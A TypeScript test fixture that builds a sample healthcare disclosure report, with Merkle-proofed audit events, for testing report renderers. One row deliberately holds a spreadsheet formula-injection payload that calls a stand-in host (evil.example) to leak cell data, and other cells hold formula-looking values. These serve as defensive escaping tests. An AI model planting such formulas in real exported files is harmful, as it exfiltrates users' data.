/**
 * A small, internally consistent Report for the renderer tests: seven real canonical AuditEvents
 * (written by `canonicalAuditEvent`, as the recorder writes them) in a Merkle tree, four of them
 * the evidence of three rows, with proofs from `MerkleTree` against a checkpoint of all seven.
 *
 * The rows are hand-made (not derived), to carry what renderers get wrong: commas, quotes and line
 * breaks in cells, formula-looking text, a leading apostrophe, a number, non-Latin-1 names, a long
 * cell that must wrap, and a row resting on two events.
 */
import { canonicalAuditEvent, type AuditInput } from '../../../src/audit/audit-event.js';
import { leafHash } from '../../../src/audit/merkle.js';
import { MerkleTree } from '../../../src/audit/merkle-tree.js';
import type { Report, ReportRow } from '../../../src/audit/reports/report-model.js';
import { auditInput } from '../../support/audit-input.js';

const base: AuditInput = auditInput({ eventId: '', recorded: Date.UTC(2026, 0, 5, 9, 30, 0), requestId: 'req-0' });

const uuid = (n: number) => `6f1c1f1e-1111-4222-8333-${String(n).padStart(12, '0')}`;

/** The log: entries 1, 3, 4 and 6 concern Patient/pat-1; the others someone else. */
export const LOG: readonly string[] = [
  canonicalAuditEvent({ ...base, eventId: uuid(0), decision: { ...base.decision!, patients: ['pat-9'] } }),
  canonicalAuditEvent({ ...base, eventId: uuid(1), recorded: Date.UTC(2026, 0, 6, 8, 0, 0), who: { ...base.who!, purposeOfUse: 'HRESCH' } }),
  canonicalAuditEvent({ ...base, eventId: uuid(2), decision: { ...base.decision!, patients: ['pat-7'] } }),
  canonicalAuditEvent({
    ...base, eventId: uuid(3), recorded: Date.UTC(2026, 1, 1, 23, 59, 0),
    interaction: { kind: 'search-type', resourceType: 'Condition' }, path: '/Condition', query: 'patient=pat-1',
    breakGlassReason: 'Patientin bewusstlos – Notfall, 山田様 (ER)', decision: { ...base.decision!, breakGlass: true },
  }),
  canonicalAuditEvent({ ...base, eventId: uuid(4), recorded: Date.UTC(2026, 1, 1, 23, 59, 30), resources: ['Condition/c-1/_history/1'] }),
  canonicalAuditEvent({ ...base, eventId: uuid(5), decision: { ...base.decision!, patients: ['pat-3'] } }),
  canonicalAuditEvent({ ...base, eventId: uuid(6), recorded: Date.UTC(2026, 2, 9, 12, 0, 0), status: 403, failure: 'CONSENT_DENIED' }),
];

export const TREE = MerkleTree.fromLeaves(LOG.map((c) => leafHash(Buffer.from(c, 'utf8'))));
export const EVIDENCE_INDICES = [1, 3, 4, 6] as const;
export const LONG_DESCRIPTION = 'Observation (12 resources: blood pressure, heart rate, body temperature, respiratory rate, oxygen saturation, body weight, body height, BMI, glucose, HbA1c, LDL cholesterol, creatinine) and the DiagnosticReport that lists them, disclosed together for the quarterly research extract';

export const ROWS: readonly ReportRow[] = [
  {
    events: [1],
    cells: {
      date: '2026-01-06T08:00:00.000Z', recipient: 'Practitioner/prac-01', recipientName: 'Dr. Zoë Łukasz-山田 🩺',
      organization: 'Organization/org-01', organizationName: 'St. Mary\'s, "North" Clinic',
      description: 'Observation (1)\r\nCondition (1)', purpose: 'HRESCH', count: 1,
    },
  },
  {
    events: [3, 4],
    cells: {
      date: '2026-02-01T23:59:00.000Z', recipient: '=HYPERLINK("http://evil.example/?d="&A1,"click")', recipientName: '',
      organization: '@SUM(A1:A9)', organizationName: '-2+3', description: '\tCondition (1)',
      purpose: "'BTG: Patientin bewusstlos – Notfall, 山田様 (ER)", count: -3,
    },
  },
  {
    events: [6],
    cells: {
      date: '2026-03-09T12:00:00.000Z', recipient: 'Practitioner/prac-01', recipientName: '+44 20 7946 0000',
      organization: 'Organization/org-01', organizationName: 'Plain Org', description: LONG_DESCRIPTION, purpose: 'TREAT', count: 0,
    },
  },
];

/** The fixture report; `overrides` replace top-level fields (rows, checkpoint, unanchored…). */
export function fixtureReport(overrides: Partial<Report> = {}): Report {
  const size = TREE.size;
  return {
    format: 'custos-report/1',
    scope: { kind: 'disclosures', patient: 'Patient/pat-1', from: '2026-01-01T00:00:00.000Z', to: '2026-04-01T00:00:00.000Z', includeExempt: true },
    header: {
      title: 'Accounting of disclosures',
      statement: 'Every disclosure of Patient/pat-1\'s health information from 2026-01-01 to 2026-04-01, including treatment, payment and operations (marked TPO).',
      columns: [
        { key: 'date', title: 'Date' }, { key: 'recipient', title: 'Recipient' }, { key: 'recipientName', title: 'Recipient name', annotation: true },
        { key: 'organization', title: 'Organization' }, { key: 'organizationName', title: 'Organization name', annotation: true },
        { key: 'description', title: 'Information disclosed' }, { key: 'purpose', title: 'Purpose' }, { key: 'count', title: 'Entries' },
      ],
    },
    generatedAt: '2026-04-02T10:00:00.000Z',
    rows: ROWS,
    checkpoint: {
      chainId: 31337, contract: '0x5FbDB2315678afecb367f032d93F642f64180aa3', treeSize: size,
      root: `0x${TREE.root(size).toString('hex')}`,
      transactionHash: '0x9a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9', blockNumber: 42,
    },
    evidence: EVIDENCE_INDICES.map((index) => ({ index, canonical: LOG[index]!, proof: TREE.inclusionProof(index, size).map((h) => h.toString('hex')) })),
    unanchored: 2,
    ...overrides,
  };
}

/** A report with `n` rows (the fixture's rows repeated), for page breaks. */
export function longReport(n: number): Report {
  const rows = Array.from({ length: n }, (_, i) => ({ ...ROWS[i % ROWS.length]!, cells: { ...ROWS[i % ROWS.length]!.cells, count: i + 1 } }));
  return fixtureReport({ rows });
}

/** Hex leaf hash of log entry `index`, computed independently of the renderers. */
export function leafHex(index: number): string {
  return TREE.leaf(index).toString('hex');
}
